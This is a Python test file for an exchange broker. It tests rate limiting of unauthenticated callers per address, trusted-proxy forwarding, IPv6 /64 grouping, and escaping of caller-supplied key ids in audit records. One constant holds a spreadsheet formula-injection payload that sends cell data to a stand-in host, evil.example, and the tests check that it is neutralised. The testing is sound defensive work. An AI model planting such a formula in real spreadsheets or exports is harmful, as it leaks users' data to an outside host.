"""Callers that never authenticate: each address may have only so many requests refused before authentication;
then its requests are turned away unread (429 too-many-failures, Retry-After) and only the first of the run is
audited, while other addresses go on. A key id of the caller's choosing reaches the audit record cut and
escaped. Behind a trusted load balancer the address is the one X-Forwarded-For names.
"""

from __future__ import annotations

import json
import string
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from prometheus_client.parser import text_string_to_metric_families

from adapters.examples.demo_agencies import ANNA
from broker.cli.demo import DemoWorld, demo_world
from broker.exchange.authentication import RECORDED_KEY_ID, recorded_key_id
from broker.exchange.limits import PeerLimiter
from directory.keys import KEY_ID
from tests.hostile.forge import Answer, Headers, Signing, send, sign
from tests.hostile.state import last_seq, records_after

WHITE = json.dumps({"subject": ANNA, "category": "civil-status", "purpose": "benefit-eligibility"}).encode()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")' + "x" * 70  # a formula, in a spreadsheet cell
NEVER_REFILLED = {"unauthenticated_burst": 3, "unauthenticated_rate_per_s": 1e-9}


def signed_exchange(world: DemoWorld, key_id: str) -> Headers:
    """An exchange signed with family-benefits' private key under `key_id`."""
    key = world.keys["family-benefits"].private_key
    return sign("POST", world.hub_url + "/v1/exchanges", WHITE, key_id, key, Signing())


async def exchange(world: DemoWorld, headers: Headers, source: str = "127.0.0.1") -> Answer:
    return await send(world.hub.config.port, "POST", "/v1/exchanges", headers, WHITE, source)


def turned_away(exposition: bytes) -> float:
    [family] = [
        family for family in text_string_to_metric_families(exposition.decode()) if family.name.endswith("away")
    ]
    return sum(sample.value for sample in family.samples if sample.name.endswith("_total"))


async def test_an_address_refused_too_often_is_turned_away_unread_and_audited_once(
    tmp_path: Path, database_url: str
) -> None:
    async with demo_world(tmp_path / "state", database_url, **NEVER_REFILLED) as world:
        seq = await last_seq(world.hub)
        answers = [await exchange(world, signed_exchange(world, FORMULA)) for _ in range(10)]
        assert [(answer.status, answer.problem) for answer in answers] == [(401, "unknown-key")] * 3 + [
            (429, "too-many-failures")
        ] * 7
        assert all(int(answer.headers["Retry-After"]) >= 1 for answer in answers[3:])
        # A valid request from the same address is turned away before it is read; another address goes on.
        key_id = world.keys["family-benefits"].key_id
        assert (await exchange(world, signed_exchange(world, key_id))).problem == "too-many-failures"
        assert (await exchange(world, signed_exchange(world, key_id), "127.0.0.2")).status == 200
        records = await records_after(world.hub, seq)
        assert [(record["status"], record["reason"]) for record in records] == [(401, "unknown-key")] * 3 + [
            (429, "too-many-failures"),
            (200, None),
        ]
        assert {record["key_id"] for record in records[:3]} == {recorded_key_id(FORMULA)}
        assert records[0]["key_id"].startswith("%3DHYPERLINK%28%22http:%2F%2F") and len(records[0]["key_id"]) == 64
        assert turned_away(world.hub.metrics.exposition()) == 8


async def test_behind_a_trusted_proxy_the_forwarded_address_counts(tmp_path: Path) -> None:
    settings = {**NEVER_REFILLED, "unauthenticated_burst": 1, "trusted_proxies": "127.0.0.0/30, ::1"}
    async with demo_world(tmp_path / "state", **settings) as world:
        unknown = signed_exchange(world, "nobody-2026")

        async def problem(forwarded_for: str) -> str | None:
            return (await exchange(world, [*unknown, ("X-Forwarded-For", forwarded_for)])).problem

        assert await problem("203.0.113.7") == "unknown-key"
        assert await problem("203.0.113.7") == "too-many-failures"
        assert await problem("203.0.113.7, 127.0.0.2") == "too-many-failures"  # a trusted hop is skipped
        assert await problem("203.0.113.8, 203.0.113.7") == "too-many-failures"  # what the client wrote is not
        assert await problem("203.0.113.8") == "unknown-key"


def test_an_ipv6_peer_counts_as_its_64() -> None:
    limiter = PeerLimiter(rate=1e-9, burst=1)
    first, neighbour = limiter.peer("2001:db8::1", ""), limiter.peer("2001:db8::ffff:1", "")
    assert first == neighbour == "2001:db8::/64"
    limiter.refused(first, 0.0)
    assert (
        limiter.lockout(neighbour, 1.0) is not None
        and limiter.lockout(limiter.peer("2001:db8:0:1::1", ""), 1.0) is None
    )


@given(st.text(alphabet=string.printable, min_size=1, max_size=128))
def test_a_recorded_key_id_is_short_and_starts_nothing_a_reader_runs(key_id: str) -> None:
    recorded = recorded_key_id(key_id)
    assert len(recorded) <= 128 and recorded.isprintable() and recorded[0] not in "=+-@\t\r"
    assert recorded == key_id if KEY_ID.fullmatch(key_id) else len(recorded) <= RECORDED_KEY_ID
